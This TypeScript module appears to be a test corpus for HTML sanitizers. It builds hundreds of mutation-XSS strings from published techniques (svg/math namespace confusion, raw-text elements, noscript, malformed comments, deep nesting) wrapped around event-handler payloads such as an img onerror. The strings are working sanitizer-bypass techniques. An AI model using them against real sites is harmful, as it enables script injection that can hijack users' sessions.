/**
 * Markup that a sanitizer parses in one way, and a browser that reads the sanitizer's output in another (mXSS). Built from
 * published techniques: namespaces confused by svg, math, mglyph and malignmark (Michał Bentkowski, 2019 and
 * 2020), forms and tables that can be nested only once (the same; IcesFont and Kévin Mizu, 2024), raw text of one parser that is
 * markup to another (Mario Heiderich and others, "mXSS attacks", 2013; SonarSource, 2024), noscript (Masato Kinugawa), comments
 * that end early (Jun Kokatsu), depth (2024), elements of the select (2025). The wording is ours.
 */
const image = '<img src=x onerror=RUN>'
/** Text that a sanitizer may take for an attribute value or for the text of an element. */
const payloads = [
  image,
  `<a title="</style>${image}">x</a>`,
  `<p id="</title>${image}">x</p>`,
  `<!--</style>${image}-->`,
  `<b alt='-->${image}'>x</b>`,
  `<![CDATA[><${image.slice(1)}]]>`,
  '<svg onload=RUN>',
  '<iframe srcdoc="<img src=x onerror=parent.RUN>">',
]

const raw = [
  'style',
  'title',
  'textarea',
  'noscript',
  'xmp',
  'iframe',
  'noembed',
  'noframes',
  'plaintext',
  'script',
  'listing',
  'template',
]
const foreign = [
  ['svg', ''],
  ['math', ''],
  ['svg', 'desc'],
  ['svg', 'title'],
  ['svg', 'foreignObject'],
  ['math', 'mtext'],
  ['math', 'mi'],
  ['math', 'annotation-xml'],
  ['math', 'annotation-xml encoding=text/html'],
  ['math', 'mtext><mglyph'],
  ['math', 'mtext><malignmark'],
  ['svg', 'p'],
  ['svg', 'font color=x'],
  ['math', 'mtext><table><mglyph'],
  ['math', 'annotation-xml><svg'],
] as const

/** Raw text to one parser, elements to another. */
const inRawText = foreign.flatMap(([root, inner]) =>
  raw.flatMap((element) => {
    const start = `<${root}>${inner === '' ? '' : `<${inner}>`}`
    return [
      `${start}<${element}><a title="</${element}>${image}">`,
      `${start}</p><${element}><!--</${element}>${image}-->`,
      `${start}<${element}><${element}></${element}>${image}</${element}>`,
    ]
  }),
)

/** Where a browser moves, closes or drops elements. */
const nestings = [
  '<form><math><mtext></form><form><mglyph><style></math>PAYLOAD',
  '<form><svg><desc></form><form><title>PAYLOAD',
  '<form id=o><div></form><form id=i><input>PAYLOAD',
  '<form><table><form>PAYLOAD</table>',
  '<math><mtext><table><mglyph><style><!--</style>PAYLOAD',
  '<math><mtext><table><mglyph><style><math>PAYLOAD',
  '<math><mtext><option><mglyph><style>PAYLOAD',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style>PAYLOAD',
  '<math><annotation-xml encoding="text/html"><style>PAYLOAD',
  '<math><mi><p><mi><mglyph><style>PAYLOAD',
  '<svg></p><style>PAYLOAD',
  '<svg><p><style>PAYLOAD',
  '<svg><desc><svg><style>PAYLOAD',
  '<svg><title><style>PAYLOAD',
  '<svg><a><svg></a><style>PAYLOAD',
  '<svg><font color><style>PAYLOAD',
  '<svg><br><style>PAYLOAD',
  '<svg></br><title>PAYLOAD',
  '<table><a><table><a>PAYLOAD',
  '<a><table><a>PAYLOAD</a></table></a>',
  '<p><table><xmp>PAYLOAD',
  '<table><plaintext>PAYLOAD',
  '<table><tr><svg><td>PAYLOAD',
  '<table><caption><table><style>PAYLOAD',
  '<table><colgroup><template>PAYLOAD',
  '<table><svg><desc><td><style>PAYLOAD',
  '<li><a><table><li>PAYLOAD',
  '<table><math><select><mi><select></table>PAYLOAD',
  '<table><input type=hidden><style>PAYLOAD',
  '<select><style>PAYLOAD</style></select>',
  '<select><option><style></option></select>PAYLOAD</style>',
  '<select><noembed></select>PAYLOAD',
  '<option><iframe></select>PAYLOAD',
  '<select><svg><style>PAYLOAD',
  '<select><math><mi><style>PAYLOAD',
  '<select><keygen><title>PAYLOAD',
  '<select><table><tr><td><style>PAYLOAD',
  '<noscript><p title="</noscript>PAYLOAD">',
  '<noscript><!--</noscript>PAYLOAD-->',
  '<noscript><style></noscript>PAYLOAD</style>',
  '<noscript><xmp></noscript>PAYLOAD</xmp></noscript>',
  '<div><noscript></div>PAYLOAD</noscript>',
  '<b><noscript><a alt="</noscript>PAYLOAD">',
  '<!-->PAYLOAD-->',
  '<!--->PAYLOAD-->',
  '<!--x--!>PAYLOAD-->',
  '<!--x--!-->PAYLOAD',
  '<!--<!-->PAYLOAD-->',
  '<!-x>PAYLOAD',
  '</ x>PAYLOAD',
  '<?x>PAYLOAD?>',
  '<!DOCTYPE x ">PAYLOAD',
  '<![CDATA[x]]>PAYLOAD',
  '<svg><![CDATA[</svg>PAYLOAD]]>',
  '<math><![CDATA[><!--]]>PAYLOAD-->',
  '<!--[if gte IE 4]>PAYLOAD<![endif]-->',
  '<!--[if !IE]>-->PAYLOAD<!--<![endif]-->',
  '<comment>PAYLOAD</comment>',
  '<template><form><input>PAYLOAD</form></template>',
  '<template><noscript>PAYLOAD</noscript></template>',
  '<div><template shadowrootmode=open>PAYLOAD</template></div>',
  '<template><table><template>PAYLOAD',
  '<svg><template><style>PAYLOAD',
  '<textarea></textarea/>PAYLOAD</textarea>',
  '<title></title/>PAYLOAD',
  '<xmp></xmp >PAYLOAD',
  '<style></style\n>PAYLOAD',
  '<textarea><!--</textarea>PAYLOAD-->',
  '<xmp><p title="</xmp>PAYLOAD">',
  '<noembed><p title="</noembed>PAYLOAD">',
  '<noframes><style></noframes>PAYLOAD</style></noframes>',
  '<iframe><noembed></iframe>PAYLOAD</noembed></iframe>',
  '<listing>&lt;img src=x onerror=RUN&gt;PAYLOAD</listing>',
  '<pre>\n\n&lt;PAYLOAD</pre>',
  '<plaintext/>PAYLOAD',
  '<h1><a><h2></a>PAYLOAD',
  '<nobr><p><nobr>PAYLOAD',
  '<button><p><button>PAYLOAD',
  '<b><p></b>PAYLOAD',
  '<a><div><a>PAYLOAD',
  '<frameset><noframes>PAYLOAD',
  '</body>PAYLOAD',
  '</html>PAYLOAD',
  '<head><style>PAYLOAD',
  '<body><body onload=RUN>PAYLOAD',
  '<dl><dt><dd><table>PAYLOAD',
  '<ruby><rt><rp>PAYLOAD',
  '<image><svg>PAYLOAD',
  '<audio><altglyphdef><fieldset><a>PAYLOAD',
  '<xss><svg><xss><style>PAYLOAD',
  '<svg><svg><svg><p>PAYLOAD',
  '<math><math><p>PAYLOAD',
  '<svg><math><p><style>PAYLOAD',
  '<menu><menuitem>PAYLOAD',
  '<object><p></object>PAYLOAD',
  '<marquee><applet></marquee>PAYLOAD',
]
const nested = nestings.flatMap((nesting) => payloads.map((payload) => nesting.replace('PAYLOAD', () => payload)))

/** A browser stops nesting at 512 levels and makes the rest siblings, which then lie in another namespace than in the sanitizer. */
const deep = [30, 200, 500, 511, 512, 513].flatMap((depth) => [
  `${'<div>'.repeat(depth)}<svg><style><!--</style>${image}-->`,
  `${'<b>'.repeat(depth)}${image}`,
  `${'<svg>'.repeat(depth)}<desc><table><style><p title="</style>${image}">`,
  `${'<a><table>'.repeat(Math.min(depth, 60))}<style><!--</style><a title="-->${image}">`,
  `${'<math><mtext>'.repeat(Math.min(depth, 120))}<mglyph><style><!--</style><a title="-->${image}">`,
  `${'<iframe>'.repeat(Math.min(depth, 60))}${image}`,
])

export const mutations: readonly string[] = [...inRawText, ...nested, ...deep]
